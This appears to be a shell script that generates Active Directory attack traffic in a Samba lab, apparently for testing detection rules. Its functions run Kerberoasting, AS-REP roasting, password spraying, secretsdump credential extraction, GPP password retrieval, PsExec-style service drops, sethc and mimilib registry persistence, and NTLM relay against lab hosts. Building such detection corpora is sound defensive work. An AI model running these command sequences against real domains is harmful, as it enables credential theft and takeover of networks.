# What is done in each recording, one function each. Sourced by record-domain.sh.
conf() { case $1 in client) echo "$lab/client.conf" ;; *) echo "$lab/$1/smb.conf" ;; esac; }
bindings() { local what=$1 host=$2; shift 2; on client "$py" "$here/bindings.py" "$what" "$host" "$lab/client.conf" "$@"; }
rpc() { local host=$1; shift; on client net -s "$(conf client)" rpc "$@" -I "${address[$host]}" -U "root%$password"; }
smb() { local who=$1 share=$2; shift 2; on client smbclient -s "$(conf client)" -U "$who%$password" "$share" "$@"; }
marshalled=dc11UWhRCAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAwbEAYBAAAA
calls() { on client "$py" "$here/calls.py" "$@"; }
tool() { local name=$1; shift; on client "$py" "/usr/share/doc/python3-impacket/examples/$name.py" "$@"; }
manage() { on dc samba-tool "$@" -s "$lab/dc/etc/smb.conf"; }
kinit_as() { printf '%s\n' "$2" | on client env KRB5CCNAME="$lab/cc" kinit "$1"; }

accounts() {
  for name in anna bob carla david erik fatima greta hans ines jonas karin ludwig maria nora otto paula quirin rosa stefan tina; do
    manage user create "$name" "$password"; done
  manage user create svc_sql "$password"; manage spn add MSSQLSvc/db.lab.local svc_sql
  manage user create oldapp "$password"
  "$py" - "$lab" <<'PY'
import sys
from samba.auth import system_session
from samba.param import LoadParm
from samba.samdb import SamDB
lp = LoadParm(); lp.load(sys.argv[1] + '/dc/etc/smb.conf')
db = SamDB(session_info=system_session(), lp=lp)
for name in 'oldapp', 'krbtgt':
    db.toggle_userAccountFlags('(samAccountName=%s)' % name, 0x400000, 'UF_DONT_REQUIRE_PREAUTH', on=True)
PY
}

do_kerberos() {
  kinit_as anna "$password"
  for _ in $(seq 10); do kinit_as bob wrong; done
  for name in carla david erik fatima greta hans; do kinit_as "$name" Winter2023; done
  for name in admin backup helpdesk guest1 oracle postgres scanner jenkins printer vpn test deploy; do kinit_as "$name" x; done
}

do_tickets() {
  echo svc_sql > "$lab/services"
  tool GetNPUsers LAB.LOCAL/oldapp -no-pass -dc-ip "${address[dc]}"
  tool GetUserSPNs "LAB.LOCAL/anna:$password" -usersfile "$lab/services" -dc-ip "${address[dc]}"
  kinit_as anna "$password"; on client env KRB5CCNAME="$lab/cc" kvno -e rc4-hmac MSSQLSvc/db.lab.local
  (cd "$lab"; tool getTGT "LAB.LOCAL/anna:$password" -dc-ip "${address[dc]}")
}

dcrpc() { on client rpcclient -s "$(conf client)" "${address[dc]}" -U "LAB/$1%$password" -c "$2"; }

do_domain_accounts() {
  dcrpc Administrator 'createdomuser helper;setuserinfo2 helper 24 Passw0rd!7'
  on client net -s "$(conf client)" rpc group addmem 'Domain Admins' helper -I "${address[dc]}" -U "LAB/Administrator%$password"
  on client net -s "$(conf client)" rpc group addmem 'Domain Admins' anna -I "${address[dc]}" -U "LAB/bob%$password"
  calls recovery_password "${address[dc]}" Administrator
}

do_domain_asked() {
  dcrpc anna 'enumdomusers;enumdomgroups;enumalsgroups builtin;querygroupmem 0x200;getdompwinfo;lsaquery;enumtrust;dsenumdomtrusts;netshareenum'
  dcrpc anna "$(for rid in $(seq 1103 1124); do printf 'queryuser %s;' "$rid"; done)"
  tool lookupsid "LAB/anna:$password@${address[dc]}" 640
}

do_domain_secrets() {
  calls backup_key "${address[dc]}" Administrator
  calls backup_key "${address[dc]}" anna
  calls secrets "${address[dc]}" Administrator
  calls channel "${address[dc]}" Administrator
  tool secretsdump "LAB/Administrator:$password@${address[dc]}" -just-dc-user anna
}

before_policies() {
  for i in $(seq 20); do
    mkdir -p "$(printf '%s/dc/state/sysvol/lab.local/Policies/{%08X-016D-11D2-945F-00C04FB984F9}' "$lab" "$i")"/{MACHINE,USER}; done
}

do_policies() {
  tool Get-GPPPassword "LAB/anna:$password@${address[dc]}"
}

do_services() {
  rpc files service stop Spooler; rpc files service start Spooler
  calls services "${address[files]}"
  bindings service_rights "${address[files]}"
  calls services_made "${address[files]}"
  for name in PAExec-4242-CLIENT RemComSvc csexecsvc PDQDeployRunner-1 mimikatz broken; do rpc files service start "$name"; done
  calls manager_refused "${address[files]}" ssales
}

do_events() { calls events "${address[files]}"; }

before_step() { for host in files sales; do rpc "$host" service stop Spooler; done; }

do_step() {
  rpc files service start Spooler
  on client smbclient -s "$(conf client)" -U "root%$password" "//${address[files]}/ADMIN\$" -c 'put /bin/true agent.exe'
  on files smbclient -s "$(conf files)" -U "root%$password" "//${address[sales]}/ADMIN\$" -c "put $lab/files/admin/agent.exe agent.exe"
  on files net -s "$(conf files)" rpc service start Spooler -I "${address[sales]}" -U "root%$password"
}

before_printing() { cp /bin/true "$lab/sales/share/driver.dll"; }

do_printing() {
  local files=${address[files]} run=(on client rpcclient -s "$(conf client)" "${address[files]}" -U "root%$password" -c)
  "${run[@]}" 'enumprinters;enumprocs;rffpcnex office'
  smb root "//$files/print\$" -c 'mkdir W32X86; mkdir x64; put /bin/true x64\driver.dll'
  "${run[@]}" 'adddriver "Windows x64" "Office:driver.dll:driver.dll:driver.dll:NULL:NULL:RAW:NULL" 3'
  on files smbclient -s "$(conf files)" -U "root%$password" "//${address[sales]}/share" -c "get driver.dll $lab/files/print/fetched.dll"
  bindings processor "$files"
}

before_shadow() {
  for role in files sales; do mkdir -p "$lab/$role/snapshots/@GMT-2026.11.01-08.00.00"; echo 'the plan' > "$lab/$role/snapshots/@GMT-2026.11.01-08.00.00/plan.docx"; chmod -R a+rX "$lab/$role/snapshots"; done
}

do_shadow() {
  cd "$lab/work"
  smb ssales "//${address[files]}/previous" -c 'ls; get @GMT-2026.11.01-08.00.00\plan.docx plan.back'
  on client smbclient -s "$(conf client)" -m NT1 -U "ssales%$password" "//${address[sales]}/previous" -c 'get @GMT-2026.11.01-08.00.00\plan.docx plan.back'
  on client rpcclient -s "$(conf client)" "${address[files]}" -U "root%$password" -c 'fss_is_path_sup backup;fss_create_expose backup ro backup'
}

# A shadow copy made, asked about and deleted again; and what Samba's own tests ask a file server, of which one ends a set.
do_shadow_ended() {
  local ask=(on client rpcclient -s "$(conf client)" "${address[files]}" -U "root%$password" -c) set copy
  "${ask[@]}" 'fss_create_expose backup rw backup' | tee "$lab/exposed"
  read -r set copy < <(grep -oE '[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}' "$lab/exposed" | awk '!seen[$0]++' | head -2 | xargs)
  "${ask[@]}" "fss_has_shadow_copy backup"
  "${ask[@]}" "fss_recovery_complete $set"
  "${ask[@]}" "fss_delete backup $set $copy"
  on client timeout 60 smbtorture -s "$(conf client)" "//${address[files]}/backup" -U "root%$password" rpc.fsrvp.fsrvp.sc_set_abort
}

before_files_named() { kinit_as anna "$password"; }

do_files_named() {
  local files=${address[files]} w="$lab/work"; cd "$w"
  printf '#pragma namespace("\\\\.\\root\\subscription")\n' > update.mof
  printf '<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Actions><Exec><Command>cmd.exe</Command></Exec></Actions></Task>' > Updater
  smb root "//$files/ADMIN\$" -c 'mkdir System32;mkdir System32\wbem;mkdir System32\wbem\mof;mkdir System32\Tasks;put update.mof System32\wbem\mof\update.mof;put Updater System32\Tasks\Updater;put Updater PAExec_Move5312.dat'
  smb ssales "//$files/share" -c "put $lab/cc anna.ccache;put Updater notes.txt"
  cd /
}

before_files_many() {
  for i in $(seq 104); do mkdir -p "$lab/files/share/team$i"; echo "report $i" > "$lab/files/share/team$i/report$i.txt"; done; chmod -R a+rX "$lab/files/share"
}

do_files_many() {
  mkdir -p "$lab/work/many"
  (cd "$lab/work/many"; smb ssales "//${address[files]}/share" -c 'recurse on;prompt off;mget team*')
}

do_pipes() {
  bindings pipe "${address[files]}" root csexecsvc PAExec-4242-CLIENT.exe postex_5c1a svcx-CLIENT-4242-stdin /tmp/lib.so
  calls path_climbed "${address[files]}"
  calls operation_255 "${address[files]}"
}

do_registry_keys() {
  for key in 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa' 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa\'{JD,Skew1,GBG,Data} \
    'HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe'; do rpc files registry createkey "$key"; done
  tool reg "root:$password@${address[files]}" add -keyName 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa' -v 'Security Packages' -vt REG_MULTI_SZ -vd 'mimilib'
  rpc files registry setvalue 'HKLM\SOFTWARE\Wow6432Node\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe' Debugger sz 'C:\Windows\System32\cmd.exe'
  for key in JD Skew1 GBG Data; do rpc files registry enumerate 'HKLM\SYSTEM\CurrentControlSet\Control\Lsa\'"$key"; done
  rpc files registry enumerate HKU
  tool reg "root:$password@${address[files]}" query -keyName HKU
  tool secretsdump "root:$password@${address[files]}"
}

before_names() {
  manage dns add "${address[dc]}" lab.local "$marshalled" A "${address[client]}" -U "Administrator%$password"
  on files nmbd -D -s "$(conf files)"; sleep 25
}

do_names() {
  for name in WPAD FILESRV INTRANET PROXY SALES-PC; do on client nmblookup -s "$(conf client)" -B 10.1.0.255 "$name"; done
  on client "$py" - "${address[dc]}" "$marshalled" <<'PY'
import sys
import dns.resolver
ask = dns.resolver.Resolver(configure=False)
ask.nameservers = [sys.argv[1]]
for name in ['dc1.lab.local', sys.argv[2] + '.lab.local', 'nothing.lab.local']:
    try:
        print(ask.resolve(name).response.answer)
    except Exception as refusal:
        print(refusal)
PY
}

do_workstation() { bindings workstation "${address[files]}" ssales; }

do_partner() { bindings partner "${address[dc]}" LAB/Administrator; }

until_listening() { for _ in $(seq 100); do on client bash -c "</dev/tcp/$1/$2" 2>/dev/null && return; sleep 0.1; done; }

before_web() { manage computer create WEB1; manage user setpassword 'WEB1$' --newpassword="$password"; }

do_web() {
  serve dc "$py" "$here/web.py" "$lab/dc/etc/smb.conf" 8080 & local server=$!
  until_listening "${address[dc]}" 8080
  on client curl -s --ntlm -u "LAB\\WEB1\$:$password" "http://${address[dc]}:8080/certsrv/"
  on client curl -s --ntlm -u "LAB\\anna:$password" "http://${address[dc]}:8080/certsrv/"
  on client curl -s --ntlm -u 'LAB\WEB1$:wrong' "http://${address[dc]}:8080/certsrv/"
  kill "$server"
}

do_relay() {
  serve client "$py" "$here/relay.py" -t "smb://${address[files]}" -smb2support --no-http-server --no-wcf-server --no-raw-server -c whoami < <(sleep 30) & local relay=$!
  sleep 4
  on sales smbclient -s "$(conf sales)" -m SMB3 -U "root%$password" "//${address[client]}/share" -c ls
  sleep 5; kill "$relay"
}

do_challenge() {
  serve client "$py" "$here/challenge.py" "$lab/share" & local server=$!
  sleep 2
  on sales smbclient -s "$(conf sales)" -U "LAB/anna%$password" "//${address[client]}/SHARE" -c ls
  kill "$server"
}

# What rules look at and must not match: a printer opened, a shutdown that nobody asked for called off.
do_print_asked() {
  on client rpcclient -s "$(conf client)" "${address[files]}" -U "ssales%$password" -c 'enumprinters;openprinter_ex office'
  rpc files abortshutdown
}

before_registry_users() { rpc files registry createkey 'HKU\S-1-5-21-1004336348-1177238915-682003330-1104'; }

do_registry_users() { rpc files registry enumerate HKU; }

# A library where a service looks for one that Windows does not have, and the restart of the service.
do_library() {
  smb root "//${address[files]}/ADMIN\$" -c 'mkdir System32;put /bin/true System32\wlbsctrl.dll'
  rpc files service stop Spooler; rpc files service start Spooler
}

# What rules look at and must not match: a driver that comes with the call's own share, and a client that takes it from there.
do_print_installed() {
  local files=${address[files]}
  smb root "//$files/print\$" -c 'mkdir x64; put /bin/true x64\driver.dll'
  on client rpcclient -s "$(conf client)" "$files" -U "root%$password" -c 'adddriver "Windows x64" "Office:driver.dll:driver.dll:driver.dll:NULL:NULL:RAW:NULL" 3'
  on sales smbclient -s "$(conf sales)" -U "ssales%$password" "//$files/print\$" -c "get x64\\3\\driver.dll $lab/driver.dll; get x64\\driver.dll $lab/driver.dll"
}

# The client becomes a second domain controller, and the first asks it for changes. What is kept is without the connection over which
# the client took the whole directory.
before_promotion() { mkdir -p "$lab/dc2/run"; }

do_promotion() {
  local own="$lab/dc2"
  on client samba-tool domain join lab.local DC -U "Administrator%$password" --server=dc1.lab.local --targetdir="$own" --dns-backend=SAMBA_INTERNAL \
    --option="posix:eadb=$own/eadb.tdb" --option='vfs objects = dfs_samba4 acl_xattr' --option="pid directory = $own/run" \
    --option="ncalrpc dir = $own/run/ncalrpc" --option="log file = $own/log.%m" --option='interfaces = eth0 lo' \
    --option='bind interfaces only = yes' --option='server services = rpc ldap cldap kdc drepl winbindd' --option="ntp signd socket directory = $own/run/ntp"
  on client samba -D -s "$own/etc/smb.conf"; sleep 6
  on dc samba-tool drs kcc dc1.lab.local -U "Administrator%$password"; sleep 3
  on dc samba-tool drs replicate dc1.lab.local client.lab.local DC=lab,DC=local -U "Administrator%$password"; sleep 4
}

kept_promotion() {
  local busiest; busiest=$(tcpdump -nn -r "$lab/cap.pcap" "src host ${address[client]} and tcp" 2>/dev/null | awk '{ print $3 }' | sort | uniq -c | sort -nr | awk 'NR == 1 { print $2 }')
  echo "not port ${busiest##*.}"
}

# What no command of Samba's asks: one connection for each interface.
do_asked() {
  smb root "//${address[files]}/share" -c 'put /etc/hostname note.txt'
  for what in machine server policy links printer; do bindings "$what" "${address[files]}"; done
  on client rpcclient -s "$(conf client)" "${address[files]}" -U "root%$password" -c 'eventlog_loginfo Security;eventlog_reportevent Security;eventlog_reporteventsource Security'
  for what in trust channel; do bindings "$what" "${address[dc]}" LAB/Administrator; done
}
